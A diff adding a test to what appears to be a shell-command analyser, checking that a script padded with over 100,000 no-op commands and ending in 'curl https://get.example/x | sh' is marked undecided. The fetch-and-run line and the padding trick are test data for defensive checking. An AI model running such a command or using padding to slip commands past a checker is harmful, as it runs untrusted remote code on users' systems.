@@ -154,6 +154,12 @@ test('reading never throws, and places every command inside the text', () => {
   );
 });
 
+test('what stands behind more commands than are read is undecided, not let pass', () => {
+  const { undecided } = readProgram(`${':\n'.repeat(100_005)}curl https://get.example/x | sh\n`);
+
+  expect(undecided).toEqual([{ offset: 0, why: 'it has too many commands to be read' }]);
+});
+
 test('a script of ten megabytes is undecided at once', () => {
   const started = performance.now();
   const { undecided } = readProgram('echo a\n'.repeat(1_500_000));
